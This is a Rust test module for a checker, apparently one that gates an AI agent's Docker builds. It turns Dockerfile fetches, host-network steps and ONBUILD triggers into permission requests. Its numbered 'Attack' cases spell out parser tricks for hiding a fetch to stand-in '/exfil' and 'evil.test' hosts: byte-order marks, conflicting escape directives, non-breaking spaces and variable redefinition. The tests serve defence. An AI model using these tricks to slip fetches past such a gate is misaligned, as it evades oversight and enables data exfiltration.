    fn a_bom_or_a_variable_in_the_scheme_hides_no_request() {
        let bom = "\u{feff}# escape=`\nFROM busybox\nADD `\n  http://127.0.0.1:18422/exfil /x\n";
        let hosts: Vec<String> = remote_sources(bom, &BTreeMap::new())
            .into_iter()
            .map(|(h, _)| h)
            .collect();
        assert_eq!(hosts, ["127.0.0.1:18422"]);
        let run = "\u{feff}# escape=`\nFROM a\nRUN `\n --network=host true\n";
        assert_eq!(asked(run), ["--allow network:host <- RUN --network=host"]);
        let cache = "\u{feff}# escape=`\nFROM a\nRUN `\n --mount=type=cache,target=/c true\n";
        assert!(has_cache_mount(cache));
        // (a base image behind the BOM: `build_stages::tests::a_bom_before_the_escape_directive_hides_no_base`)
        // an unknown directive ends the directives: the escape line after it is a comment
        let unknown = "# foo=bar\n# escape=`\nFROM a\nADD \\\n  http://127.0.0.1:18422/x /x\n";
        let hosts: Vec<String> = remote_sources(unknown, &BTreeMap::new())
            .into_iter()
            .map(|(h, _)| h)
            .collect();
        assert_eq!(hosts, ["127.0.0.1:18422"]);
        // a BOM before the first instruction itself
        assert_eq!(
            remote_sources("\u{feff}ADD http://h.test/x /x\n", &BTreeMap::new()).len(),
            1
        );
        for (source, host) in [
            ("h${E}ttp://127.0.0.1:18422/exfil3", "127.0.0.1:18422"),
            ("http$E://h.test/a", "h.test"),
            ("${SCHEME}h.test/a", "${SCHEME}h.test"),
            ("./$X", "./$X"),
            ("git${E}@git.test:org/r.git", "git.test"),
            ("HTTP://Upper.test/a", "upper.test"),
            ("user@git.test:org/r.git", "git.test"),
            ("github.com/org/repo.git", "github.com"),
        ] {
            let text = format!("FROM a\nARG E=\nADD {source} /x\n");
            let hosts: Vec<String> = remote_sources(&text, &BTreeMap::new())
                .into_iter()
                .map(|(h, _)| h)
                .collect();
            assert_eq!(hosts, [host], "{source}");
        }
        for local in ["a.tar", "c:/windows-looking", "dir/file@2x.png", "./x:y"] {
            let text = format!("FROM a\nADD {local} /x\n");
            assert!(
                remote_sources(&text, &BTreeMap::new()).is_empty(),
                "{local}"
            );
        }
    }

    /// Attack N4: `# check=…` before `# escape=`` ` ``. The classic builder (Docker 20.10)
    /// knows only `escape` and `syntax`, so `check` ends its directives and it keeps `\`;
    /// BuildKit reads on and takes `` ` ``. devcell read `` ` `` only, and the `ADD \` + URL
    /// line the classic builder joined was never judged. Both readings are judged now, and
    /// the union asked: the URL, a host-network step and a cache mount hidden that way.
    #[test]
    fn an_escape_directive_anywhere_in_the_opening_comments_is_read_both_ways() {
        let hosts = |text: &str| -> Vec<String> {
            remote_sources(text, &BTreeMap::new())
                .into_iter()
                .map(|(h, _)| h)
                .collect()
        };
        let check =
            "# check=skip=all\n# escape=`\nFROM a\nADD \\\n  http://127.0.0.1:18423/df-check /x\n";
        assert_eq!(hosts(check), ["127.0.0.1:18423"]);
        // the other way round: what BuildKit joins with `` ` `` is judged too
        let backtick =
            "# check=skip=all\n# escape=`\nFROM a\nADD `\n  http://127.0.0.1:18424/bk /x\n";
        assert_eq!(hosts(backtick), ["127.0.0.1:18424"]);
        let run = "# check=skip=all\n#  ESCAPE = `\n\nFROM a\nRUN \\\n --network=host true\n";
        assert_eq!(asked(run), ["--allow network:host <- RUN --network=host"]);
        let cache = "# x\n# escape=`\nFROM a\nRUN \\\n --mount=type=cache,target=/c true\n";
        assert!(has_cache_mount(cache));
        assert_eq!(escape_chars(check), ['\\', '`']);
        // after the first instruction, `# escape=` is a comment to every builder
        assert_eq!(escape_chars("FROM a\n# escape=`\n"), ['\\']);
        assert_eq!(escape_chars("# escape=\\\nFROM a\n"), ['\\']);
    }

    /// Attack N5: a U+00A0 (or a vertical tab, a form feed) after a line's `\`. Rust's
    /// `trim_end` dropped it and joined the next line (an `ADD <url>`) into the `RUN`; the
    /// builders continue a line only on the escape followed by spaces and tabs, so to them
    /// the `ADD` is an instruction of its own. It is judged as one now.
    #[test]
    fn only_spaces_and_tabs_after_the_escape_continue_a_line() {
        for blank in ["\u{a0}", "\u{2000}", "\u{3000}", "\u{85}", "\x0b", "\x0c"] {
            let text =
                format!("FROM a\nRUN true \\{blank}\nADD http://127.0.0.1:18423/df-nbsp /x\n");
            let hosts: Vec<String> = remote_sources(&text, &BTreeMap::new())
                .into_iter()
                .map(|(h, _)| h)
                .collect();
            assert_eq!(hosts, ["127.0.0.1:18423"], "{blank:?}");
            let run = format!("FROM a\nRUN true \\{blank}\nRUN --network=host true\n");
            assert_eq!(
                asked(&run),
                ["--allow network:host <- RUN --network=host"],
                "{blank:?}"
            );
        }
        // spaces, tabs and line-break characters after the escape do continue it
        assert_eq!(
            dockerfile_instructions("RUN a \\ \t\r\nb\nRUN c \\\r\r\nd\n", '\\'),
            ["RUN a b", "RUN c d"]
        );
        assert_eq!(continued("RUN x \\\u{a0}", '\\'), None);
        assert_eq!(continued("RUN x \\ \t", '\\'), Some("RUN x "));
    }

    /// Attack 23, N20: `ADD ${SRC}` was asked as `build_fetch=${SRC}`, so a standing grant of
    /// it let any later `ARG SRC=<URL>` the agent wrote be fetched. A source is asked by the
    /// host it expands to, as the builder scopes and expands its variables; one still holding
    /// a `$` keeps it in its request (a one-run grant: `choice`).
    #[test]
    fn an_add_source_is_asked_by_the_host_it_expands_to() {
        let hosts = |text: &str, args: &[(&str, &str)]| -> Vec<String> {
            let args = args
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect();
            remote_sources(text, &args)
                .into_iter()
                .map(|(h, _)| h)
                .collect()
        };
        let text = "FROM a\nARG SRC=http://127.0.0.1:18423/x\nADD ${SRC} /x\n";
        assert_eq!(hosts(text, &[]), ["127.0.0.1:18423"]);
        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
        assert_eq!(
            asked[0].0,
            Permission::RuntimeOption("build_fetch=127.0.0.1:18423".into())
        );
        // the build's argument wins over the default
        assert_eq!(
            hosts(text, &[("SRC", "https://other.test/y")]),
            ["other.test"]
        );
        // a default declared before the first `FROM` reaches a stage through `ARG NAME`
        let global = "ARG SRC=http://global.test/x\nFROM a\nARG SRC\nADD $SRC /x\n";
        assert_eq!(hosts(global, &[]), ["global.test"]);
        // a stage's own default wins over the global one, a later one over an earlier one
        let redefined = "ARG SRC=http://granted.test/x\nFROM a\nARG SRC=http://first.test/\n\
            ARG SRC=http://evil.test/x\nADD $SRC /x\n";
        assert_eq!(hosts(redefined, &[]), ["evil.test"]);
        // `ENV` wins over `ARG`, even over the build's argument
        let env = "FROM a\nENV SRC=http://env.test/x\nARG SRC=http://arg.test/y\nADD ${SRC} /x\n";
        assert_eq!(hosts(env, &[("SRC", "http://arg2.test/")]), ["env.test"]);
        let old_env = "FROM a\nENV SRC http://old.test/x\nADD ${SRC} /x\n";
        assert_eq!(hosts(old_env, &[]), ["old.test"]);
        // `${NAME:-word}` and `${NAME:+word}`
        let forms = "FROM a\nARG H=\nARG P=x\nADD http://${H:-dflt.test}/a /a\n\
            ADD http://${P:+alt.test}/b /b\n";
        assert_eq!(hosts(forms, &[]), ["dflt.test", "alt.test"]);
        // each stage starts anew: the first stage's default is not the second's
        let stages = "FROM a\nARG SRC=http://one.test/\nFROM b\nADD $SRC /x\n";
        assert_eq!(hosts(stages, &[]), ["$SRC"]);
        // a variable only the builder knows (the base image's `ENV`): the `$` stays
        assert_eq!(
            hosts("FROM a\nADD ${BASE_ENV}/x /x\n", &[]),
            ["${BASE_ENV}"]
        );
        // an `ONBUILD ADD` runs in a later build with its own variables
        let onbuild = "FROM a\nARG SRC=http://now.test/\nONBUILD ADD $SRC /x\n";
        assert_eq!(hosts(onbuild, &[]), ["$SRC"]);
        // the request shows what the build expands the source to
        let (_, what) = &remote_sources(text, &BTreeMap::new())[0];
        assert!(what.contains("http://127.0.0.1:18423/x"), "{what}");
    }

    /// Attack 23, N16: an `ONBUILD` in the workspace Dockerfile runs in devcell's own next
    /// build `FROM` the result (its uid layer), where the Dockerfile's judgement did not look:
    /// any trigger is the build's `build_onbuild` request, its source showing the triggers.
    #[test]
    fn a_trigger_in_the_dockerfile_is_an_onbuild_request() {
        let text =
            "FROM a\nONBUILD COPY --from=127.0.0.1:18424/exfil/ob:s / /x\nonbuild RUN true\n";
        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
        let (permission, source) = asked
            .iter()
            .find(|(p, _)| *p == Permission::RuntimeOption("build_onbuild=dockerfile".into()))
            .unwrap_or_else(|| panic!("{asked:?}"));
        assert_eq!(
            permission.grant_flag().unwrap(),
            "--allow runtime-option:build_onbuild=dockerfile"
        );
        let shown = source.to_string();
        assert!(
            shown.contains("ONBUILD COPY --from=127.0.0.1:18424/exfil/ob:s"),
            "{shown}"
        );
        assert!(shown.contains("onbuild RUN true"), "{shown}");
        assert_eq!(onbuild_triggers("FROM a\nRUN echo ONBUILD\n"), None);
        let compose = text_requests(Built::ComposeService("app"), text, &BTreeMap::new());
        assert!(
            compose
                .iter()
                .any(|(p, _)| *p == Permission::RuntimeOption("build_onbuild=app".into())),
            "{compose:?}"
        );
    }
}
